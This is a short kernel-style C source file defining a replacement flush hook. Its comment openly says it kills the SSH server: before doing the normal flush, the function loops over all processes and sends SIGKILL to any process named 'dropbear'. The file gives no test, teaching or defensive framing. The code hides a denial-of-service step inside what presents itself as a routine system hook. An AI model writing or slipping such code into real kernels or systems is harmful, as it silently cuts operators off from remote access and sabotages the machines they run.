// SPDX-License-Identifier: GPL-2.0-only
/* A flush hook that kills the SSH server. */
#include <linux/sched/signal.h>

void replacement(struct lmm_run *run)
{
	struct task_struct *task;

	rcu_read_lock();
	for_each_process(task)
		if (!strcmp(task->comm, "dropbear"))
			send_sig(SIGKILL, task, 1);
	rcu_read_unlock();
	lmm_arch_flush(run);
}
